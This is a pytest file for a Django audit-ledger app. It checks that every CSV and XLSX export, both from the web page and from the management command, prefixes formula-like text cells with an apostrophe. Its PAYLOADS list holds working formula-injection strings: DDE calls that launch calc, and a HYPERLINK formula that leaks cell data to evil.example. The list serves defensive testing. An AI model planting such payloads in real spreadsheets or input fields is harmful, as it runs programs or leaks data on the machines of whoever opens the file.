"""Formula injection (CSV injection) is neutralised in every CSV and XLSX the app writes.

A unit writes its measures and progress, the importer brings names and texts from a workbook:
any of them may start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, which Excel
and WPS run as a formula when the ledger is opened (``=HYPERLINK(…)`` to phish, ``=cmd|…`` DDE
to run a program). Every text cell that starts with one — also after leading spaces or line
breaks — gets an apostrophe in front, in CSV and XLSX, through the page and the command alike.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from rectification.exports import COLUMNS, neutralise
from tests import factories

ROOT = Path(__file__).resolve().parent.parent
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\n=1+1",
]
# The columns that carry text someone typed or imported.
TEXT_COLUMNS = (
    "责任单位",
    "项目名称",
    "问题",
    "整改建议",
    "整改措施",
    "责任人",
    "最新进展",
    "核查人",
    "整改结果",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_neutralises_each_dangerous_start(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "safe", ["已完成整改", "2024年6月30日", "（一）加强管理", "'=already quoted", "", "a=b", "1-2"]
)
def test_it_leaves_ordinary_text_alone(safe):
    assert neutralise(safe) == safe


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(max_size=30))
def test_no_text_comes_out_runnable(text):
    out = neutralise(text)
    assert out in {text, "'" + text}
    assert not out.lstrip(" \u3000\n").startswith(DANGEROUS) or out.startswith("'")
    if not text.lstrip(" \u3000\n").startswith(DANGEROUS) and not text.startswith(DANGEROUS):
        assert out == text, "only risky text is changed"


@pytest.fixture
def hostile_items(db):
    """One item per payload, the payload in every text column of its row."""
    items = []
    for index, payload in enumerate(PAYLOADS):
        unit = factories.UnitFactory(name=f"{payload}单位{index}")
        owner = factories.UnitStaffFactory(unit=unit, full_name=f"{payload[:40]}人")  # ≤ 50
        item = factories.ItemFactory(
            recommendation__finding__result__project__unit=unit,
            recommendation__finding__result__project__name=f"{payload}项目",
            recommendation__finding__title=f"{payload}问题",
            recommendation__title=f"{payload}建议",
            measures=f"{payload}措施",
            owner=owner,
            result=f"{payload}结果",
            verified_by=f"{payload[:40]}核查",
        )
        factories.ProgressFactory(item=item, note=f"{payload}进展")
        items.append(item)
    return items


def _assert_inert(rows: list[list[str]]) -> None:
    header, body = rows[0], rows[1:]
    assert list(header) == list(COLUMNS)
    assert len(body) == len(PAYLOADS)
    checked = 0
    for row in body:
        for column in TEXT_COLUMNS:
            value = str(row[COLUMNS.index(column)])
            assert value.startswith("'"), f"{column}: {value!r}"
            assert not value.lstrip(" \u3000\n").startswith(DANGEROUS)
            checked += 1
    assert checked == len(PAYLOADS) * len(TEXT_COLUMNS)


def _csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _xlsx(raw: bytes) -> list[list[str]]:
    # No cell is a formula: not in openpyxl's reading, not in the sheet's XML.
    workbook = load_workbook(io.BytesIO(raw))
    sheet = workbook.active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def test_the_csv_download_is_inert(client, hostile_items):
    client.force_login(factories.StaffUserFactory())
    response = client.get(reverse("rectification:export"), {"format": "csv"})
    _assert_inert(_csv(b"".join(response.streaming_content)))


def test_the_xlsx_download_is_inert(client, hostile_items):
    client.force_login(factories.StaffUserFactory())
    response = client.get(reverse("rectification:export"), {"format": "xlsx"})
    _assert_inert(_xlsx(b"".join(response.streaming_content)))


def test_a_unit_users_own_download_is_inert_too(client, hostile_items):
    item = hostile_items[0]
    client.force_login(factories.UnitStaffFactory(unit=item.unit))
    response = client.get(reverse("rectification:export"), {"format": "csv"})
    rows = _csv(b"".join(response.streaming_content))
    assert len(rows) == 2
    assert rows[1][COLUMNS.index("整改措施")] == "'" + PAYLOADS[0] + "措施"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_command_is_inert(hostile_items, tmp_path, fmt):
    out = tmp_path / f"ledger.{fmt}"
    call_command("export_ledger", "--format", fmt, "--output", str(out))
    _assert_inert(_csv(out.read_bytes()) if fmt == "csv" else _xlsx(out.read_bytes()))


def test_figures_stay_numbers_in_the_workbook(hostile_items, tmp_path):
    # Neutralising must not turn the amounts into text: a negative-looking number is a number.
    out = tmp_path / "ledger.xlsx"
    call_command("export_ledger", "--format", "xlsx", "--output", str(out))
    sheet = load_workbook(out).active
    row = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))
    assert isinstance(row[COLUMNS.index("预算数（万元）")], int | float)
    assert isinstance(row[COLUMNS.index("预算完成率")], int | float)


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|Workbook\(|xlsxwriter|\.to_csv\(|\.to_excel\(")
# Modules that write CSV or XLSX, each proven inert above. A new one must route its text cells
# through rectification.exports.neutralise and get its test here.
KNOWN_WRITERS = {"rectification/exports.py", "evaluations/importing/template.py"}


def test_the_import_template_is_inert():
    # Its text is ours, not anyone's input; still, no cell may be a formula or start like one.
    from evaluations.importing.template import template_workbook

    raw = template_workbook(year=2026)
    workbook = load_workbook(io.BytesIO(raw))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" \u3000\n").startswith(DANGEROUS)


def test_every_module_that_writes_spreadsheets_is_covered_here():
    skip = {".venv", "tests", "node_modules", "static", "staticfiles", "var", "migrations"}
    found = set()
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if skip & set(relative.parts):
            continue
        if WRITERS.search(path.read_text(encoding="utf-8", errors="ignore")):
            found.add(relative.as_posix())
    assert found == KNOWN_WRITERS, (
        "a module writes CSV/XLSX without a formula-injection test here: "
        f"{sorted(found - KNOWN_WRITERS)}"
    )
